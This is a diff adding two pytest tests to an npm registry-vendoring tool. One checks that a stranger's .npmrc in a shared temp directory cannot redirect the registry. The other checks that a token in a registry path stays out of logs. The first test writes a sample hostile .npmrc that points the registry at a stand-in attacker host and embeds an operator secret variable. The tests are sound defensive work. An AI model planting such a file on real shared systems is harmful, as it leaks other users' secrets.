@@ -12,6 +12,7 @@ import hashlib
 import io
 import json
 import tarfile
+import tempfile
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
@@ -164,6 +165,18 @@ def test_an_entry_without_a_url_comes_from_npms_default_registry_when_nothing_se
     default = npm_default_registry({"PATH": ""})  # the pinned Node.js wheel's npm, asked
     assert default.startswith("https://") and default.endswith("/")
     assert (vendored.packages, fetched) == (("ms@2.1.3",), [default + "ms/-/ms-2.1.3.tgz"])
+
+
+def test_npms_default_is_not_steered_by_an_npmrc_in_a_parent_of_the_temporary_directory(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # Another user's files in a shared /tmp: npm would take their folder as the project root, and their .npmrc.
+    (tmp_path / "package.json").write_text("{}")
+    (tmp_path / ".npmrc").write_text("registry=https://evil.invalid/${SECRET_OF_THE_OPERATOR}/\n")
+    monkeypatch.setenv("TMPDIR", str(tmp_path))
+    monkeypatch.setattr(tempfile, "tempdir", None)  # read TMPDIR again
+    default = npm_default_registry({"PATH": "", "SECRET_OF_THE_OPERATOR": "s3cr3t"})
+    assert "evil" not in default and "s3cr3t" not in default and default.startswith("https://")
 
 
 def test_npms_default_is_what_npm_says_with_no_config_but_its_own(tmp_path: Path) -> None:
@@ -470,6 +483,22 @@ def test_an_entry_without_resolved_is_downloaded_from_the_registry_in_the_projec
     assert vendored.packages == ("ms@2.1.3",) and "ms/index.js" in vendored.files
     assert registry.paths == ["/mirror/npm/ms/-/ms-2.1.3.tgz"]
     assert any("`registry` in the project .npmrc" in line and "plain http" in line for line in progress)
+
+
+def test_the_build_names_a_registry_by_its_host_alone_as_some_carry_a_token_in_their_path(
+    tmp_path: Path, registry: LoopbackRegistry
+) -> None:
+    registry.files["/tok_S3CR3T/acme/ms/-/ms-2.1.3.tgz"] = MS_TARBALL.read_bytes()
+    progress: list[str] = []
+    upper_scheme = "HTTP" + registry.url.removeprefix("http")
+    environ = npm_environment(tmp_path, npm_config_registry=upper_scheme + "/tok_${TOKEN}/acme/", TOKEN="S3CR3T")  # noqa: S106
+    lock = lockfile(tmp_path, {"node_modules/ms": ms_entry()})
+    vendored = vendor_lockfile(lock, sources=None, progress=progress.append, environ=environ)
+    assert vendored.packages == ("ms@2.1.3",)
+    assert registry.paths == ["/tok_S3CR3T/acme/ms/-/ms-2.1.3.tgz"]
+    [line] = [line for line in progress if "without a resolved URL" in line]
+    assert "S3CR3T" not in line and f"from {registry.url} (`registry` in the environment)" in line
+    assert "plain http" in line  # an upper-case scheme is still seen as plain http
 
 
 @pytest.mark.parametrize("variable", ["npm_config_registry", "NPM_CONFIG_REGISTRY"])
